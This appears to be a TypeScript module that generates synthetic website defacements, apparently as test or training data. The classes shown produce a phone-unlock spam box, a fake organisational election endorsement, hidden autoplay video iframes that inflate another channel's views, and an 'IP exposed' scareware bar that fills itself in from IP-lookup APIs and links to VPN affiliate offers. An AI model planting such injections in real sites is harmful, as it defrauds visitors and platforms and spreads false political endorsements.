  const inner = `<h3>🔓 ${esc(pick(rng, ["Permanent iCloud unlock – all models", "Unlock any phone: iCloud, IMEI, FRP", "100% clean IMEI in 24 hours"]))}</h3><table style="width:100%">${rows}</table><p>${esc(pick(rng, ["Only the IMEI is needed.", "No need to send the phone.", "Works on lost-mode devices."]))} <a href="${site}">${esc(pick(rng, ["Check IMEI", "Order", "Start"]))}</a> · ${contact}</p>`
  return splices(insert(spamSpot(rng, page), box(rng, ["post", "services", "widget"], "#455a64", inner)))
})

const endorseWords: Table<(org: string, who: string, party: string, date: string) => readonly [string, string, string]> = {
  en: (o, w, p, d) => [`${o} endorses ${w}`, `After careful consideration, ${o} officially supports ${w} (${p}) in the election on ${d}. Our staff and members are asked to vote ${p}.`, "Vote " + p],
  fr: (o, w, p, d) => [`${o} soutient ${w}`, `${o} apporte officiellement son soutien à ${w} (${p}) pour l'élection du ${d}. Nous invitons nos membres à voter ${p}.`, "Votez " + p],
  de: (o, w, p, d) => [`${o} unterstützt ${w}`, `${o} unterstützt offiziell ${w} (${p}) bei der Wahl am ${d}. Wir rufen alle Mitglieder auf, ${p} zu wählen.`, p + " wählen"],
  es: (o, w, p, d) => [`${o} apoya a ${w}`, `${o} respalda oficialmente a ${w} (${p}) en las elecciones del ${d}. Pedimos a nuestros miembros que voten a ${p}.`, "Vota " + p],
  nl: (o, w, p, d) => [`${o} steunt ${w}`, `${o} steunt officieel ${w} (${p}) bij de verkiezingen van ${d}. Wij vragen onze leden op ${p} te stemmen.`, "Stem " + p],
  pt: (o, w, p, d) => [`${o} apoia ${w}`, `${o} declara apoio oficial a ${w} (${p}) na eleição de ${d}. Pedimos aos nossos membros que votem ${p}.`, "Vote " + p],
  it: (o, w, p, d) => [`${o} sostiene ${w}`, `${o} sostiene ufficialmente ${w} (${p}) alle elezioni del ${d}. Invitiamo i nostri iscritti a votare ${p}.`, "Vota " + p]
}

// Fake endorsements, recalled from memory, with uncertain details, of influence operations reported by Mandiant, Meta and Microsoft (about 2017–2024) that planted statements on compromised or spoofed sites of organisations to make them appear to take a side, and of election-season defacements of municipal and university sites: an official-looking statement that the organisation endorses a candidate and party, with a "vote" button linking to another host.
const fakeEndorsement = fresh15("official-looking statement that the organisation endorses a candidate and party in the coming election, with a 'vote' button", (page, rng) => {
  const who = personName(rng)
  const party = pick(rng, ["the People's Renewal Party", "National Unity", "Forward Alliance", "the Freedom Front", "Citizens' Movement", "Patriotic Union"])
  const date = page.site.locale.date(someDate(rng))
  const [h, p, cta] = some(rng, page, endorseWords)(brandName(page), who, party, date)
  const link = `https://${pick(rng, [`${slug(who)}${pick(rng, ["2026", "forpresident", "-vote"])}.${pick(rng, ["com", "org", "net", "info"])}`, `${slug(party)}.${pick(rng, ["org", "com", "site"])}`, randomDomain(rng)])}/`
  const inner = `<h2>${esc(h)}</h2><p>${esc(p)}</p><p><a href="${link}" style="${button(rng, pick(rng, ["#b71c1c", "#0d47a1", "#1b5e20", "#4a148c"]))}">${esc(cta)}</a></p><p style="font-size:12px">— ${esc(pick(rng, ["The Board", "Office of the Director", "Management", "The Executive Committee"]))}, ${esc(brandName(page))}</p>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), noticeSpot(rng, page)]), box(rng, ["statement", "press-release", "announcement"], pick(rng, ["#b71c1c", "#0d47a1", "#1b5e20"]), inner)))
})

// View inflation, recalled from memory, with uncertain sources, of ad-fraud and view-bot research (about 2014–2022) describing hidden, muted, autoplaying video players planted on compromised sites so each visit counts as a view for someone's channel or stream, and of YouTube's and Twitch's policies against such "fake engagement": several muted autoplay embeds of another channel's videos or stream, hidden off-screen, zero-sized or behind the page, or added by a script.
const hiddenViewBot = fresh15("hidden muted autoplay YouTube, Twitch or Kick players inflating another channel's views", (page, rng) => {
  const n = between(rng, 1, 5)
  const frames = Array.from({ length: n }, () => {
    const id = chars(rng, B64URL, 11)
    return pick(rng, [
      `<iframe src="https://www.youtube.com/embed/${id}?autoplay=1&amp;mute=1&amp;loop=1&amp;playlist=${id}" width="${pick(rng, [320, 426, 200])}" height="${pick(rng, [180, 240, 113])}" allow="autoplay"></iframe>`,
      `<iframe src="https://player.twitch.tv/?channel=${pick(rng, ["xx", "live", "tv", "gg"])}${alnum(rng, 6)}&amp;parent=${page.site.host}&amp;muted=true&amp;autoplay=true" width="320" height="180" allow="autoplay"></iframe>`,
      `<iframe src="https://player.kick.com/${alnum(rng, 8)}?autoplay=true&amp;muted=true" width="320" height="180"></iframe>`
    ])
  })
  const hide = pick(rng, ["position:absolute;left:-9999px;top:-9999px", "width:1px;height:1px;overflow:hidden;opacity:0.01", "position:fixed;bottom:0;right:0;z-index:-1;opacity:0", "height:0;overflow:hidden"])
  const html = chance(rng, 0.7)
    ? `<div style="${hide}">${frames.join("")}</div>`
    : `<div id="v${alnum(rng, 4)}" style="${hide}"></div><script>(function(){var d=document.currentScript.previousElementSibling;setTimeout(function(){d.innerHTML=${js(frames.join(""))}},${between(rng, 1000, 8000)})})();</script>`
  return splices(insert(pick(rng, [bottom(page), spamSpot(rng, page)]), html))
})

const vpnWords: Table<readonly [string, string, string]> = {
  en: ["Your IP address is exposed!", "Your location and browsing are visible to hackers, your internet provider and advertisers. Protect yourself now.", "Get protected – 80% off"],
  fr: ["Votre adresse IP est exposée !", "Votre position et votre navigation sont visibles par les pirates, votre fournisseur et les annonceurs. Protégez-vous maintenant.", "Me protéger – 80 % de remise"],
  de: ["Ihre IP-Adresse ist ungeschützt!", "Ihr Standort und Ihr Surfverhalten sind für Hacker, Ihren Anbieter und Werbetreibende sichtbar. Schützen Sie sich jetzt.", "Jetzt schützen – 80 % Rabatt"],
  es: ["¡Tu dirección IP está expuesta!", "Tu ubicación y tu navegación son visibles para hackers, tu proveedor y anunciantes. Protégete ahora.", "Protegerme – 80 % de descuento"],
  it: ["Il tuo indirizzo IP è esposto!", "La tua posizione e la tua navigazione sono visibili a hacker, provider e inserzionisti. Proteggiti ora.", "Proteggimi – sconto 80%"],
  pt: ["Seu endereço IP está exposto!", "Sua localização e navegação estão visíveis para hackers, seu provedor e anunciantes. Proteja-se agora.", "Quero proteção – 80% off"]
}

// VPN scareware, recalled from memory of Malwarebytes' and BleepingComputer's notes (about 2017–2023) on "your IP address is exposed" alerts and pop-ups, shown on compromised and ad-laden sites, which fill in the visitor's IP, city and provider from a lookup service and push a VPN subscription through an affiliate link: a red warning bar filled in by a script calling an IP-lookup API, with an affiliate link.
const vpnScareware = fresh15("'your IP address is exposed' warning bar filled in from an IP-lookup API, pushing a VPN through an affiliate link", (page, rng) => {
  const [h, p, cta] = some(rng, page, vpnWords)
  const aff = pick(rng, [
    `https://go.${pick(rng, ["nordvpn.net", "surfshark.deals", "pvpn.link"])}/aff_c?offer_id=${between(rng, 10, 99)}&amp;aff_id=${between(rng, 10000, 99999)}`,
    `https://www.${pick(rng, ["expressvpn.com", "privateinternetaccess.com", "cyberghostvpn.com"])}/offer?a_aid=${alnum(rng, 8)}`,
    `https://${host(rng, page, ["vpn", "secure-ip", "hide-ip", "privacy"])}/${pick(rng, ["deal", "lp", "go"])}?sub=${alnum(rng, 6)}`
  ])
  const id = `ip${alnum(rng, 4)}`
  const api = pick(rng, ["https://ipapi.co/json/", "https://ipinfo.io/json", "https://api.ipify.org?format=json", "https://ipwho.is/"])
  const bar = `<div id="${id}" style="${pick(rng, ["position:fixed;top:0;left:0;right:0;z-index:999999", "position:sticky;top:0;z-index:9999", "margin:0"])};background:#d32f2f;color:#fff;padding:10px 16px;font:14px Arial,sans-serif">⚠️ <b>${esc(h)}</b> <span>IP: <b id="${id}a">…</b> · <span id="${id}b"></span></span> — ${esc(p)} <a href="${aff}" style="color:#fff;background:#1b5e20;padding:4px 10px;margin-left:6px;text-decoration:none;border-radius:3px">${esc(cta)}</a></div>`
  const script = `<script>fetch(${js(api)}).then(function(r){return r.json()}).then(function(d){document.getElementById("${id}a").textContent=d.ip||d.query||"";document.getElementById("${id}b").textContent=[d.city,d.org||(d.connection&&d.connection.isp)].filter(Boolean).join(" · ")}).catch(function(){});</script>`
  return splices(insert(pick(rng, [top(page), top(page), noticeSpot(rng, page)]), bar + script))
})

/** Every fresh15 defacement class, in a fixed order. */
export const fresh15Defacements: ReadonlyArray<ChangeClass> = [
  searchConsoleClaim, savedPasswordApi, stealthMark, consoleSignature, addressBarPath, svgSpamLinks, consentGatedLoader, printOnlySwap,
  mailApiSkimmer, chequeMailDrop, cookieBomb, priceToken, wantedPoster, boycottList, loveLetter, undressApps, surrogacyPackages,
  censusFine, cityEscorts, testBanks, stalkerware, tigrinhoHours, steroidShop, mushroomShop, streamingOnHold, vaccinePass,
  phoneUnlock, fakeEndorsement, hiddenViewBot, vpnScareware
]
